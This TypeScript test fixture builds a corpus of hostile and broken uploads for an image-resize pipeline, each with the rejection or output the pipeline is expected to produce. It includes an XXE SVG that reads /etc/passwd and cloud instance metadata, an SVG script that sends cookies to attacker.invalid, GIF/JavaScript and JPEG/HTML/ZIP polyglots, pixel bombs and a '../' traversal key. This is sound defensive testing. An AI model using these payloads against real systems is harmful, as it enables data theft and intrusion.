/**
 * The hostile and broken input corpus of the reliability tests (issue 6): every case is generated
 * in memory from a seed or by hand-crafting bytes, so nothing binary is checked in. Each case names
 * the object key it is uploaded under and what the resize stage must make of it.
 */
import sharp from 'sharp';
import { synthesizeImage } from '../../src/tools/samples';
import { truncateImage } from './broken-images';
import { animatedImage, HTML, pngHeaderClaiming, TEXT } from './images';

/** What the chain must do with a case. */
export type Expectation =
  /** Variants of the auto-oriented `width` x `height` source (never enlarged), in sRGB, without EXIF. */
  | { outcome: 'resized'; width: number; height: number; format: string }
  /** One image.rejected event with this code; no variant written. */
  | { outcome: 'rejected'; code: string }
  /** Acknowledged without any output or rejection (S3 console folder markers). */
  | { outcome: 'ignored' };

export interface CorpusCase {
  /** Short stable name, used in reports. */
  readonly name: string;
  /** What it is and why it is hostile. */
  readonly description: string;
  /** Decoded object key (uploads/ prefix included). */
  readonly key: string;
  readonly body: Buffer;
  readonly expect: Expectation;
  /**
   * True when the case is delivered as a hand-written S3 notification instead of an upload: S3 stores
   * keys such as `a/../b.jpg` verbatim, but HTTP clients normalise '..' out of the request path, so
   * the only faithful way to deliver one locally is the notification S3 would send.
   */
  readonly notificationOnly?: boolean;
}

/** Rewrites the first JPEG start-of-frame's dimensions: a header claiming `width` x `height`. */
export function jpegHeaderClaiming(valid: Buffer, width: number, height: number): Buffer {
  const data = Buffer.from(valid);
  let offset = 2;
  while (offset + 9 < data.length) {
    if (data[offset] !== 0xff) throw new Error(`jpegHeaderClaiming: no marker at ${offset}`);
    const marker = data[offset + 1];
    const length = data.readUInt16BE(offset + 2);
    // SOF0..SOF15 except DHT (C4), JPG (C8) and DAC (CC).
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) {
      data.writeUInt16BE(height, offset + 5);
      data.writeUInt16BE(width, offset + 7);
      return data;
    }
    offset += 2 + length;
  }
  throw new Error('jpegHeaderClaiming: no start-of-frame marker');
}

/** A flat-colour picture: compresses to almost nothing, decodes to width x height x 3 bytes. */
async function flatPng(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 90, g: 140, b: 200 } } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

/**
 * A flat picture of the sRGB colour `rgb`, stored in Display P3: sharp converts the pixels to P3
 * and embeds the profile, so the file's numbers differ from `rgb` (40,200,60 is stored as about
 * 97,197,81). A pipeline that honours the profile gives back `rgb`; one that ignores it does not.
 */
export async function displayP3Jpeg(
  width: number,
  height: number,
  rgb: readonly [number, number, number],
): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let i = 0; i < width * height; i++) raw.set(rgb, i * 3);
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .withIccProfile('p3')
    .jpeg({ quality: 95 })
    .toBuffer();
}

/** The sRGB colour of the P3 case: its stored P3 numbers differ from it by up to 57 per channel. */
export const P3_COLOUR = [40, 200, 60] as const;

const SVG_EXTERNAL_ENTITY = Buffer.from(
  '<?xml version="1.0" standalone="no"?>\n' +
    '<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY ' +
    'remote SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">' +
    '<text x="0" y="20">&xxe;&remote;</text><image ' +
    'xlink:href="http://127.0.0.1:1/track.png" width="10" height="10"/></svg>',
);

const SVG_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">' +
    '<script type="text/javascript">fetch("https://attacker.invalid/?c="+document.cookie)</script><rect ' +
    'width="100" height="100"/></svg>',
);

const HTML_PAYLOAD = '<html><body><script>alert("polyglot")</script></body></html>';

/** A GIF/JavaScript polyglot: a GIF header whose bytes also parse as JavaScript (`GIF89a=...`). */
function gifJsPolyglot(): Buffer {
  const head = Buffer.from('GIF89a', 'latin1');
  // Logical screen 0x2F2A = "/*" as little-endian width, opening a JS comment: the classic trick.
  const screen = Buffer.from([0x2f, 0x2a, 0x0a, 0x00, 0x00, 0x00, 0x00]);
  const js = Buffer.from('*/=1;alert("polyglot");/*', 'latin1');
  return Buffer.concat([head, screen, js, Buffer.from('*/', 'latin1'), Buffer.from([0x3b])]);
}

/** A ZIP end-of-central-directory record: enough for unzip tools to call the file an (empty) archive. */
function zipTrailer(): Buffer {
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  return eocd;
}

/**
 * Builds the corpus. `prefix` is the watched uploads prefix (default 'uploads/'); every case lives
 * under `<prefix>hostile/`. Takes ~2-3 s (the 100 MP flat PNG dominates).
 */
export async function buildHostileCorpus(prefix = 'uploads/'): Promise<CorpusCase[]> {
  const at = (name: string) => `${prefix}hostile/${name}`;
  const jpeg = await synthesizeImage({ width: 400, height: 300, seed: 601, format: 'jpeg' });
  const png = await synthesizeImage({ width: 400, height: 300, seed: 602, format: 'png' });
  const webp = await synthesizeImage({ width: 400, height: 300, seed: 603, format: 'webp' });
  const small = await synthesizeImage({ width: 240, height: 180, seed: 604, format: 'jpeg' });
  const rgbRaw = await sharp(jpeg).raw().toBuffer();

  const cases: CorpusCase[] = [
    {
      name: 'zero-bytes',
      description: '0-byte object named .jpg',
      key: at('zero.jpg'),
      body: Buffer.alloc(0),
      expect: { outcome: 'rejected', code: 'EMPTY' },
    },
    {
      name: 'truncated-jpeg',
      description: 'first half of a 400x300 JPEG',
      key: at('truncated.jpg'),
      body: truncateImage(jpeg),
      expect: { outcome: 'rejected', code: 'TRUNCATED' },
    },
    {
      name: 'truncated-png',
      description: 'first half of a 400x300 PNG',
      key: at('truncated.png'),
      body: truncateImage(png),
      expect: { outcome: 'rejected', code: 'TRUNCATED' },
    },
    {
      name: 'truncated-webp',
      description: 'first half of a 400x300 WebP',
      key: at('truncated.webp'),
      body: truncateImage(webp),
      expect: { outcome: 'rejected', code: 'TRUNCATED' },
    },
    {
      name: 'text-as-jpg',
      description: 'CSV text named .jpg',
      key: at('notes.jpg'),
      body: TEXT,
      expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' },
    },
    {
      name: 'html-as-jpg',
      description: 'an HTML error page named .jpg',
      key: at('page.jpg'),
      body: HTML,
      expect: { outcome: 'rejected', code: 'NOT_AN_IMAGE' },
    },
    {
      name: 'png-bomb-50000',
      description: 'PNG header claiming 50,000 x 50,000 (7.5 GB of RGB) in under 100 bytes',
      key: at('bomb.png'),
      body: pngHeaderClaiming(50_000, 50_000),
      expect: { outcome: 'rejected', code: 'TOO_MANY_PIXELS' },
    },
    {
      name: 'jpeg-bomb-50000',
      description: 'a real JPEG whose start-of-frame is rewritten to claim 50,000 x 50,000',
      key: at('bomb.jpg'),
      body: jpegHeaderClaiming(jpeg, 50_000, 50_000),
      expect: { outcome: 'rejected', code: 'TOO_MANY_PIXELS' },
    },
    {
      name: 'png-flat-100mp',
      description:
        'a deflate bomb at the pixel limit: 10,000 x 10,000 flat PNG (~300 KB) that decodes to 300 MB of RGB',
      key: at('flat-100mp.png'),
      body: await flatPng(10_000, 10_000),
      expect: { outcome: 'resized', width: 10_000, height: 10_000, format: 'png' },
    },
    {
      name: 'animated-gif',
      description: '3-frame animated GIF',
      key: at('animated.gif'),
      body: await animatedImage('gif', 3, 32),
      expect: { outcome: 'rejected', code: 'ANIMATED' },
    },
    {
      name: 'cmyk-jpeg',
      description: 'CMYK JPEG (print workflow export)',
      key: at('cmyk.jpg'),
      body: await sharp(jpeg).toColourspace('cmyk').jpeg().toBuffer(),
      expect: { outcome: 'resized', width: 400, height: 300, format: 'jpeg' },
    },
    {
      name: 'png-16bit',
      description: '16-bit-per-channel RGB PNG',
      key: at('deep.png'),
      body: await sharp(rgbRaw, { raw: { width: 400, height: 300, channels: 3 } })
        .toColourspace('rgb16')
        .png()
        .toBuffer(),
      expect: { outcome: 'resized', width: 400, height: 300, format: 'png' },
    },
    {
      name: 'svg-external-entity',
      description: 'SVG with XXE entities (file://, instance metadata URL) and an external <image>',
      key: at('xxe.svg'),
      body: SVG_EXTERNAL_ENTITY,
      expect: { outcome: 'rejected', code: 'UNSUPPORTED_FORMAT' },
    },
    {
      name: 'svg-script-as-jpg',
      description: 'SVG with onload and <script>, named .jpg',
      key: at('script.jpg'),
      body: SVG_SCRIPT,
      expect: { outcome: 'rejected', code: 'UNSUPPORTED_FORMAT' },
    },
    {
      name: 'polyglot-jpeg-html-zip',
      description: 'valid JPEG followed by an HTML <script> page and a ZIP trailer (GIFAR-style)',
      key: at('polyglot.jpg'),
      body: Buffer.concat([small, Buffer.from(HTML_PAYLOAD), zipTrailer()]),
      expect: { outcome: 'resized', width: 240, height: 180, format: 'jpeg' },
    },
    {
      name: 'polyglot-gif-js',
      description: 'GIF header that is also JavaScript (GIF89a=...alert())',
      key: at('polyglot-js.gif'),
      body: gifJsPolyglot(),
      expect: { outcome: 'rejected', code: 'CORRUPT' },
    },
    {
      name: 'icc-display-p3',
      description: 'flat JPEG in Display P3 (embedded ICC profile)',
      key: at('display-p3.jpg'),
      body: await displayP3Jpeg(200, 150, P3_COLOUR),
      expect: { outcome: 'resized', width: 200, height: 150, format: 'jpeg' },
    },
  ];

  // EXIF orientations 1-8 on a stored 300x200 picture: 5..8 swap the axes.
  for (let orientation = 1; orientation <= 8; orientation++) {
    const swapped = orientation >= 5;
    cases.push({
      name: `exif-orientation-${orientation}`,
      description: `300x200 JPEG with EXIF orientation ${orientation}`,
      key: at(`exif-${orientation}.jpg`),
      body: await synthesizeImage({
        width: 300,
        height: 200,
        seed: 610 + orientation,
        format: 'jpeg',
        orientation: orientation as 1,
      }),
      expect: { outcome: 'resized', width: swapped ? 200 : 300, height: swapped ? 300 : 200, format: 'jpeg' },
    });
  }

  const goodSmall: Expectation = { outcome: 'resized', width: 240, height: 180, format: 'jpeg' };
  cases.push(
    {
      name: 'key-spaces',
      description: 'key with spaces',
      key: at('my holiday photo.jpg'),
      body: small,
      expect: goodSmall,
    },
    {
      name: 'key-plus',
      description: "key with '+' (S3 encodes it %2B, a space as '+')",
      key: at('a+b=c.jpg'),
      body: small,
      expect: goodSmall,
    },
    {
      name: 'key-unicode',
      description: 'key with accents, Cyrillic and CJK',
      key: at('été Москва 日本.jpg'),
      body: small,
      expect: goodSmall,
    },
    {
      name: 'key-noncharacter',
      description: 'key holding U+FFFE, which SQS message bodies and XML 1.0 cannot carry',
      key: at('odd\uFFFEname.jpg'),
      body: small,
      expect: { outcome: 'rejected', code: 'INVALID_KEY' },
      notificationOnly: true,
    },
    {
      name: 'key-percent',
      description: "key holding literal '%20' and '%' (must not be decoded twice)",
      key: at('100%25 sure%20really %.jpg'),
      body: small,
      expect: goodSmall,
    },
    {
      name: 'key-dotdot',
      description: "key with a '../' segment (path traversal once the bucket is synced to disk)",
      key: `${prefix}hostile/../../etc/passwd.jpg`,
      body: small,
      expect: { outcome: 'rejected', code: 'INVALID_KEY' },
      notificationOnly: true,
    },
    {
      name: 'key-folder-marker',
      description: "0-byte object whose key ends in '/' (S3 console 'Create folder')",
      key: at('new folder/'),
      body: Buffer.alloc(0),
      expect: { outcome: 'ignored' },
    },
    {
      name: 'key-folder-with-bytes',
      description: "key ending in '/' that holds an image: no file name to derive outputs from",
      key: at('folder-with-bytes/'),
      body: small,
      expect: { outcome: 'rejected', code: 'INVALID_KEY' },
    },
  );
  return cases;
}

/**
 * A key outside the Basic Multilingual Plane (an emoji). Real SQS accepts such characters
 * (#x10000-#x10FFFF); the stand-in (fauxqs 2.4.1) refuses them in SendMessageBatch, so the resize
 * event of such a key fails until events are serialised ASCII-safe (see SECURITY.md, known gaps).
 */
export async function emojiKeyCase(prefix = 'uploads/'): Promise<CorpusCase> {
  return {
    name: 'key-emoji',
    description: 'key with an astral-plane character (emoji)',
    key: `${prefix}hostile/camera 📷.jpg`,
    body: await synthesizeImage({ width: 240, height: 180, seed: 604, format: 'jpeg' }),
    expect: { outcome: 'resized', width: 240, height: 180, format: 'jpeg' },
  };
}

/** `count` good images for mixing into hostile batches: 320x240 JPEGs, each its own seed. */
export async function goodImages(count: number, prefix = 'uploads/'): Promise<CorpusCase[]> {
  const out: CorpusCase[] = [];
  for (let i = 0; i < count; i++) {
    out.push({
      name: `good-${i}`,
      description: 'plain 320x240 JPEG',
      key: `${prefix}good/img-${i}.jpg`,
      body: await synthesizeImage({ width: 320, height: 240, seed: 700 + i, format: 'jpeg' }),
      expect: { outcome: 'resized', width: 320, height: 240, format: 'jpeg' },
    });
  }
  return out;
}
